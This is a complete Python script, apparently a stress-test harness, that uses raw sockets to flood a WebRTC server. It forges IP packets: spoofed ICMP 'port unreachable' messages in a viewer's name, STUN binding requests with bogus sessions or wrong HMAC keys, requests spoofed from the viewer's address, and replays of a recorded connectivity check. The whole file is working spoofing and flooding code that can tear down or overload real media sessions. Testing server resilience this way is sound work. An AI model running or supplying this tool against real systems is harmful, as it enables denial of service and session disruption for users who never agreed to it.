#!/usr/bin/python3
"""A stranger's host: forged packets, as fast as asked for. Needs raw sockets.

    flood.py KIND SECONDS RATE SERVER VIEWER UFRAG VIEWER_UFRAG RECORDED

KIND is one of
    icmp-wrong    "port unreachable" in the viewer's name for ports that it does not have
    icmp-right    the same for its real port, without quoting anything that was sent to it
    stun-wrong    binding requests from here for sessions that do not exist
    stun-hmac     requests from here for the real session, signed with another password
    stun-spoofed  the same in the name of the viewer's address
    stun-replayed RECORDED (hex), a check that the viewer once sent, from here and in its name

SERVER and VIEWER are HOST:PORT. Prints as JSON how many were sent, and in what time.
"""

import hashlib
import hmac
import json
import os
import random
import socket
import struct
import sys
import time
import zlib

kind, seconds, rate, server, viewer, ufrag, viewer_ufrag, recorded = sys.argv[1:9]
seconds, rate = float(seconds), float(rate)


def address(text):
    host, port = text.rsplit(":", 1)
    return host, int(port)


server, viewer = address(server), address(viewer)


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(source, destination, protocol, payload):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), random.getrandbits(16), 0, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(destination))
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def udp(source, destination, payload):
    pseudo = socket.inet_aton(source[0]) + socket.inet_aton(destination[0]) + struct.pack("!BBH", 0, 17, 8 + len(payload))
    head = struct.pack("!HHHH", source[1], destination[1], 8 + len(payload), 0)
    total = checksum(pseudo + head + payload) or 0xFFFF
    return head[:6] + struct.pack("!H", total) + payload


def unreachable(port, length):
    """ICMP 3/3 (RFC 792): the head of what the server is said to have sent, and noise."""
    quote = ip(server[0], viewer[0], 17, struct.pack("!HHHH", server[1], port, 8 + length, random.getrandbits(16)) + os.urandom(length))
    message = struct.pack("!BBHI", 3, 3, 0, 0) + quote
    return ip(viewer[0], server[0], 1, message[:2] + struct.pack("!H", checksum(message)) + message[4:])


def request(name, password):
    """A binding request as browsers send it (RFC 8489, RFC 8445 7.1)."""
    def attribute(number, value):
        return struct.pack("!HH", number, len(value)) + value + b"\0" * (-len(value) % 4)

    head = struct.pack("!HHI", 1, 0, 0x2112A442) + os.urandom(12)
    body = attribute(6, name.encode()) + attribute(0x802A, os.urandom(8)) + attribute(0x25, b"") + attribute(0x24, struct.pack("!I", 1853693695))
    head = head[:2] + struct.pack("!H", len(body) + 24) + head[4:]
    body += attribute(8, hmac.new(password, head + body, hashlib.sha1).digest())
    head = head[:2] + struct.pack("!H", len(body) + 8) + head[4:]
    return head + body + attribute(0x8028, struct.pack("!I", (zlib.crc32(head + body) ^ 0x5354554E) & 0xFFFFFFFF))


def forged():
    """Some hundreds of them, made before the flood."""
    many = range(400)
    real = f"{ufrag}:{viewer_ufrag}"
    noise = lambda: os.urandom(6).hex()
    if kind == "icmp-wrong":
        ports = [p for p in random.sample(range(1024, 65536), 400) if p != viewer[1]]
        return [unreachable(port, random.choice((0, 60, 500))) for port in ports], []
    if kind == "icmp-right":
        return [unreachable(viewer[1], random.choice((0, 20, 60, 500))) for _ in many], []
    if kind == "stun-wrong":
        return [], [request(f"{noise()}:{noise()}", os.urandom(16)) for _ in many]
    if kind == "stun-hmac":
        return [], [request(real, os.urandom(16)) for _ in many]
    if kind == "stun-spoofed":
        return [ip(viewer[0], server[0], 17, udp(viewer, server, request(real, os.urandom(16)))) for _ in many], []
    if kind == "stun-replayed":
        check = bytes.fromhex(recorded)
        return [ip(viewer[0], server[0], 17, udp(viewer, server, check))], [check]
    sys.exit(f"{kind}: unknown")


raw, plain = forged()
spoofer = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
stranger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
stranger.bind(("", 0))
turns = [(spoofer, p, (server[0], 0)) for p in raw] + [(stranger, p, server) for p in plain]
sent = failed = 0
begin = time.monotonic()
while (passed := time.monotonic() - begin) < seconds:
    # What is due now, in small groups, so that it is a flood and no row of bursts.
    due = min(int(passed * rate) - sent - failed, 200)
    if due <= 0:
        time.sleep(0.001)
        continue
    for _ in range(due):
        to, packet, where = turns[(sent + failed) % len(turns)]
        try:
            to.sendto(packet, where)
            sent += 1
        except OSError:
            failed += 1
print(json.dumps({"sent": sent, "failed": failed, "seconds": time.monotonic() - begin}))
